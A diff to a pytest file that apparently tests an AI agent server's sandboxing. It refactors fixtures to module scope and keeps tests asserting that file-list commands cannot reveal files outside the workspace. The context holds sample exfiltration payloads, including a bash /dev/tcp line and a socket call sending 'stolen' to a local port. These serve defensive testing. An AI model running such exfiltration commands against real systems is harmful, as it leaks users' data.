@@ -14,7 +14,7 @@ from typing import Any
 
 import pytest
 
-from tests.support.agent_server import ORDINARY, USERS, Agent, AgentServer, open_place
+from tests.support.agent_server import ORDINARY, USERS, Agent, AgentServer, SharedAgentServer, share_place
 from tests.support.git_server import Listener
 
 SHADOW = """
@@ -25,10 +25,16 @@ socket.create_connection(("127.0.0.1", {port})).sendall(b"stolen")
 PROGRAM = "#!/bin/bash\ntouch ran\nexec 3<>/dev/tcp/127.0.0.1/{port}; echo stolen >&3\n"
 
 
-@pytest.fixture(params=USERS)
-def place(request: pytest.FixtureRequest) -> Iterator[AgentServer]:
-    with open_place(request.param) as place:
+@pytest.fixture(scope="module", params=USERS)
+def shared_place(request: pytest.FixtureRequest) -> Iterator[SharedAgentServer]:
+    with share_place(request.param) as place:
         yield place
+
+
+@pytest.fixture
+def place(shared_place: SharedAgentServer) -> AgentServer:
+    shared_place.clear()
+    return shared_place
 
 
 @contextmanager
@@ -180,14 +186,20 @@ def serve(place: AgentServer, names: tuple[str, ...], heard: list[bytes]) -> Ite
         thread.join()
 
 
-@pytest.mark.parametrize(
-    "line", ["find -files0-from list", "wc --files0-from=list", "sha256sum -c list", "strings @list"]
-)
-def test_names_from_a_file_ask_where_nothing_confines_a_command(line: str) -> None:
-    with open_place("own", provider="local", allow_unconfined=True) as place, place.start() as agent:
+@pytest.fixture(scope="module")
+def unconfined() -> Iterator[SharedAgentServer]:
+    with share_place("own", provider="local", allow_unconfined=True) as place:
         (place.home / "outside").mkdir()
         (place.home / "outside/private").write_text("x")
         (place.root / "list").write_text(f"{place.home}/outside\0")
+        yield place
+
+
+@pytest.mark.parametrize(
+    "line", ["find -files0-from list", "wc --files0-from=list", "sha256sum -c list", "strings @list"]
+)
+def test_names_from_a_file_ask_where_nothing_confines_a_command(unconfined: AgentServer, line: str) -> None:
+    with unconfined.start() as agent:
         answer = agent.run(line)
         assert "private" not in answer.text
         assert answer.status == 409 or "approval" in answer.text.lower(), answer
